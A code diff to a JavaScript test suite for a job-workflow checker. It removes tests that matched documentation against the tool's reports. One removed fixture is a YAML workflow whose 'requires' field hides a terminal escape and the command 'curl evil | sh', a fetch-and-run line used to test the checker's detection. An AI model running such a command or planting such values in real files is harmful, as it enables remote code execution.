@@ -7,7 +7,7 @@
  * are read as JSON.
  */
 import assert from "node:assert/strict";
-import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
+import { mkdtemp, rm, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { after, before, describe, test } from "node:test";
@@ -397,44 +397,5 @@ describe("a JSON workflow is read as JSON, with positions", () => {
       /schema\.json:3:29: unknown key "requries" in a job \(did you mean "requires"\?\)\n.*\n {4}\| {29}\^{10}\n/,
     );
     assert.match(report, /schema\.json:4:28: "\|" means something only to a shell/);
-  });
-});
-
-describe("docs/security.md", () => {
-  test("shows the reports these files get", async () => {
-    const doc = await readFile(new URL("../docs/security.md", import.meta.url), "utf8");
-    const ring = reportOf(
-      "ring.yaml",
-      yamlJobs(10_000, (index) => `j${(index + 1) % 10_000}`),
-    ).report;
-    const hidden = reportOf(
-      "hidden.yaml",
-      'jobs:\n  - id: build\n    run: make\n  - id: test\n    run: make test\n    requires: "build\\e[8m; curl evil | sh"\n',
-    ).report;
-    for (const [name, report] of [
-      ["ring.yaml", ring],
-      ["hidden.yaml", hidden],
-    ]) {
-      const block = `\`\`\`text\n$ npx asyncjobs check ${name}\n${report}\`\`\`\n`;
-      assert.ok(doc.includes(block), `docs/security.md should show:\n${block}`);
-    }
-  });
-});
-
-describe("docs/cli.md", () => {
-  test("shows syntax errors as they are reported", async () => {
-    const doc = await readFile(new URL("../docs/cli.md", import.meta.url), "utf8");
-    const dup = reportOf("dup.yaml", "jobs:\n  - id: a\n    run: echo\n    run: echo again\n");
-    const json = reportOf(
-      "trailing.json",
-      '{\n  "jobs": [\n    { "id": "a", "run": "echo" },\n  ]\n}\n',
-    );
-    const block =
-      "```text\n$ npx asyncjobs check dup.yaml\n" +
-      dup.report +
-      "$ npx asyncjobs check trailing.json\n" +
-      json.report +
-      "```\n";
-    assert.ok(doc.includes(block), `docs/cli.md should show:\n${block}`);
   });
 });
